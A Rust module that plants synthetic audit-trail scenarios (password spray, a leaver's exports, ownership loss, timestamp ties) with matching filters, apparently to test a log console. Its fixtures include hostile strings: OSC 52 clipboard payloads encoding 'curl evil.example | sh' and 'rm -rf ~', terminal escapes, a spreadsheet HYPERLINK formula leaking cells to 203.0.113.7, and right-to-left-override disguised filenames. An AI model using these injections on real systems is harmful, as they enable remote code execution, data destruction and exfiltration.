//! Everything that is planted in a trail, with the filters that find it.

use super::calendar::{HOUR, berlin, berlin_date, tuesday_on_or_before};
use super::cast::COMPANIES;
use super::incident;
use super::resource::decimal;
use super::script::{Script, Thing, Who, session, thing};
use crate::domain::Action::{Export, Read};
use crate::domain::Category::{Auth, Config, Data};
use crate::domain::Severity::{Info, Warning};
use crate::domain::{NewEvent, OrgId, OrgIdError, Timestamp};
use chrono::NaiveDate;
use serde_json::{Value, json};

/// Something planted: the filter finds exactly these events of the organisation `acme`.
///
/// Ids and filters are the same for every seed, end and number of events.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fact {
    /// Short name, in kebab case.
    pub name: &'static str,
    /// What it is.
    pub about: &'static str,
    /// A filter of the console that finds it.
    pub filter: String,
    /// Ids of its events, in the order of the story.
    pub event_ids: Vec<String>,
}

impl Fact {
    pub(super) fn new(
        name: &'static str,
        about: &'static str,
        filter: impl Into<String>,
        event_ids: Vec<String>,
    ) -> Self {
        Self { name, about, filter: filter.into(), event_ids }
    }
}

/// The organisation in which everything is planted.
pub const PLANTED_IN: &str = COMPANIES[0].id;

/// What is planted, whatever the settings of the trail.
pub fn planted() -> Vec<Fact> {
    // Any day will do: only times and the dates in states depend on it.
    OrgId::new(PLANTED_IN).map(|organization| tell(organization, NaiveDate::default()).1).unwrap_or_default()
}

/// The planted events of a trail that ends at `until` (microseconds), in time order.
pub(super) fn events(until: i64) -> Result<Vec<NewEvent>, OrgIdError> {
    Ok(tell(OrgId::new(PLANTED_IN)?, tuesday_on_or_before(berlin_date(until - 8 * 24 * HOUR))).0)
}

fn tell(organization: OrgId, tuesday: NaiveDate) -> (Vec<NewEvent>, Vec<Fact>) {
    let mut script = Script::new(organization);
    let mut facts = incident::tell(&mut script, tuesday);
    let spray = spray(&mut script, tuesday);
    // Both stories together are all that ever came from that network.
    let outside = spray[0].event_ids.iter().chain(&facts[0].event_ids).cloned().collect();
    facts.push(Fact::new(
        "off-hours",
        "everything from 203.0.113.0/24, all of it between 22:00 and 06:00 in Berlin",
        "ip:203.0.113.0/24",
        outside,
    ));
    facts.extend(spray);
    facts.extend(leaving(&mut script, tuesday));
    facts.extend(oddities(&mut script, tuesday));
    (script.finish(), facts)
}

/// User agents with a title, a clipboard and a direction of writing that are none of their business.
const HOSTILE_AGENTS: [&str; 3] = [
    "probe/6.6 \u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31mroot\u{1b}[0m",
    "probe/6.6 \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u{7}",
    "probe/6.6 (\u{202e}moc.elgoog\u{202c}; \u{200b}\u{feff}bot)",
];

/// Somebody tries passwords, three nights in a row, before the key leaks.
fn spray(script: &mut Script, tuesday: NaiveDate) -> Vec<Fact> {
    const AGENT: &str = "Mozilla/5.0 (compatible; Hydra)";
    let mut all = Vec::new();
    let mut hostile = Vec::new();
    for night in 0..3_i64 {
        for attempt in 0..8_i64 {
            let person = COMPANIES[0].person(1 + attempt as usize);
            let agent = if attempt == 7 { HOSTILE_AGENTS[night as usize] } else { AGENT };
            let who = Who { session: None, ..Who::person(&person, "").elsewhere("203.0.113.7", agent, "") };
            let attempted =
                Thing { category: Auth, kind: "login_attempt", id: "", name: None, project: None };
            let at = berlin(tuesday, night - 4, 2, 11 + attempt * 2, 5 * night);
            let state = json!({ "account": person.email, "outcome": "denied", "reason": "bad_password" });
            let id = script.create(&who, at, attempted, ("login.failed", Warning), state);
            script.last_concerns(format!("la-{}", 101 + night * 8 + attempt));
            if attempt == 7 {
                hostile.push(id.clone());
            }
            all.push(id);
        }
    }
    vec![
        Fact::new(
            "password-spray",
            "failed sign-ins to eight accounts on three nights",
            "ip:203.0.113.7",
            all,
        ),
        Fact::new(
            "hostile-agents",
            "user agents with ESC, OSC 52 and characters that turn the direction of writing",
            "ua~\"probe/6.6\"",
            hostile,
        ),
    ]
}

/// Eve is leaving: the weekly export she always does, and three that she never did.
fn leaving(script: &mut Script, tuesday: NaiveDate) -> Vec<Fact> {
    let dataset = |id, name| thing(Data, "dataset", id, name, Some("p-support"));
    let weekly = dataset("ds-300", "support-weekly");
    let person = COMPANIES[0].person(27);
    let mut exports = Vec::new();
    for week in (1..=10).rev() {
        let who = Who::person(&person, &format!("eve week {week}"));
        exports.push(script.look(&who, berlin(tuesday, 3 - 7 * week, 16, 31, 12), weekly, Export, Info));
    }
    let who = Who::person(&person, "eve at night");
    for (day, id, name) in [
        (-15, "ds-301", "pricing-model-training"),
        (-9, "ds-302", "contract-texts"),
        (-2, "ds-303", "churn-scores"),
    ] {
        let unusual = dataset(id, name);
        for minute in [2, 9, 17] {
            script.look(&who, berlin(tuesday, day, 20, minute, 40), unusual, Read, Info);
        }
        exports.push(script.look(&who, berlin(tuesday, day, 20, 26, 3), unusual, Export, Warning));
    }
    let handed_over = dataset("ds-60", "handover-notes");
    script.exists(
        handed_over,
        json!({ "name": "handover-notes", "owner": "user-27", "rows": 412, "version": 9, "visibility": "team" }),
    );
    let alice = Who::person(&COMPANIES[0].person(1), "acme handover");
    let orphaned = script.update(
        &alice,
        berlin(tuesday, 3, 15, 12, 9),
        handed_over,
        ("dataset.updated", Warning),
        |state| state["owner"] = Value::Null,
    );
    vec![
        Fact::new(
            "leaver-exports",
            "ten weekly exports that are usual, three of other datasets that are not",
            "actor:user-27 action:export res:dataset/*",
            exports,
        ),
        Fact::new(
            "owner-null",
            "a dataset loses its owner",
            "new.owner:null changed:owner action:update",
            vec![orphaned],
        ),
    ]
}

/// What programs trip over.
fn oddities(script: &mut Script, tuesday: NaiveDate) -> Vec<Fact> {
    let acme = &COMPANIES[0];
    let ingest = Who::service("svc-ingest", acme.service_address(0));
    let mut facts = Vec::new();

    let doomed = thing(Config, "prompt", "pr-13", "loyalty.draft", Some("p-checkout"));
    script.exists(
        doomed,
        json!({
            "name": "loyalty.draft", "owner": "user-9", "version": 17, "temperature": decimal(7, 1),
            "template": "If every move makes it worse, say so: the customer is in zugzwang.",
        }),
    );
    let ines = Who::person(&acme.person(9), "acme tidying");
    let deleted = script.delete(&ines, berlin(tuesday, -33, 14, 8, 55), doomed, ("prompt.deleted", Info));
    facts.push(Fact::new("word", "a word that stands only in what was deleted", "zugzwang", vec![deleted]));

    let formula = thing(
        Data,
        "dataset",
        "ds-90",
        "=HYPERLINK(\"http://203.0.113.7/?leak=\"&A1,\"Open invoice\")",
        Some("p-docs"),
    );
    let disguised = thing(Data, "trace", "tr-91", "invoice-\u{202e}fdp.exe", Some("p-docs"));
    let jonas = Who::person(&acme.person(10), "acme upload");
    let names = vec![
        script.create(
            &jonas,
            berlin(tuesday, -12, 11, 40, 2),
            formula,
            ("dataset.created", Info),
            json!({ "name": formula.name, "owner": "user-10", "rows": 3, "version": 1, "visibility": "team" }),
        ),
        script.create(
            &jonas,
            berlin(tuesday, -12, 11, 44, 31),
            disguised,
            ("trace.created", Info),
            json!({ "name": disguised.name, "status": "ok", "input": "\u{1b}]52;c;cm0gLXJmIH4K\u{7} <b>hello</b>\r\n" }),
        ),
    ];
    let both = "(res:dataset/ds-90 OR res:trace/tr-91)";
    facts.push(Fact::new("hostile-names", "a name that is a formula, one that reads backwards", both, names));

    let importer = Who { session: Some(session("acme import")), ..ingest.clone() };
    let imported = thing(Data, "trace", "", "archive.import", Some("p-search"));
    let instant = berlin(tuesday, -9, 4, 0, 0);
    let ties = (0..EQUAL_TIMESTAMPS).map(|n| {
        let state = json!({ "name": "archive.import", "status": "ok", "row": n, "batch": 7 });
        let id = script.create(&importer, instant, imported, ("trace.created", Info), state);
        script.last_concerns(format!("tr-{}", 201 + n));
        script.last_happens(Timestamp::from_micros(instant));
        id
    });
    let ties = ties.collect();
    let filter = format!("sess:{}", session("acme import"));
    facts.push(Fact::new(
        "equal-timestamps",
        "an import that wrote all its events in the same instant",
        filter,
        ties,
    ));

    let huge = thing(Data, "trace", "tr-500", "catalogue.extract", Some("p-search"));
    let id =
        script.create(&ingest, berlin(tuesday, -5, 11, 11, 11), huge, ("trace.created", Info), large_state());
    facts.push(Fact::new(
        "large-state",
        "an agent that ran all night: a state of 300 kB",
        "res:trace/tr-500",
        vec![id],
    ));
    facts
}

/// How many events share one instant.
const EQUAL_TIMESTAMPS: u64 = 240;

/// About 300 kB of spans.
fn large_state() -> Value {
    let spans: Vec<Value> = (0..2_000_u64)
        .map(|n| {
            json!({
                "span": n, "parent": n / 7, "op": "tool.call", "tool": "catalogue.lookup", "ms": 20 + n * 7919 % 4_000,
                "input": format!("article {:06}", n * 104_729 % 1_000_000), "output": "not found, trying the next shelf",
            })
        })
        .collect();
    json!({ "name": "catalogue.extract", "status": "error", "model": "harbor-70b", "latency_ms": 27_311_902, "spans": spans })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn facts_do_not_depend_on_the_date() {
        let until = Timestamp::parse("2026-07-01T00:00:00Z").unwrap().as_micros();
        let ids: HashSet<String> = events(until).unwrap().into_iter().map(|e| e.event_id).collect();
        for fact in planted() {
            assert!(fact.event_ids.iter().all(|id| ids.contains(id)), "{}", fact.name);
            assert!(!fact.event_ids.is_empty());
            let distinct: HashSet<&String> = fact.event_ids.iter().collect();
            assert_eq!(distinct.len(), fact.event_ids.len(), "{}", fact.name);
        }
    }

    #[test]
    fn the_night_has_41_events() {
        let fact = &planted()[0];
        assert_eq!((fact.name, fact.event_ids.len()), ("incident", 41));
    }

    #[test]
    fn the_large_state_is_about_300_kilobytes() {
        let size = large_state().to_string().len();
        assert!((290_000..340_000).contains(&size), "{size}");
    }
}
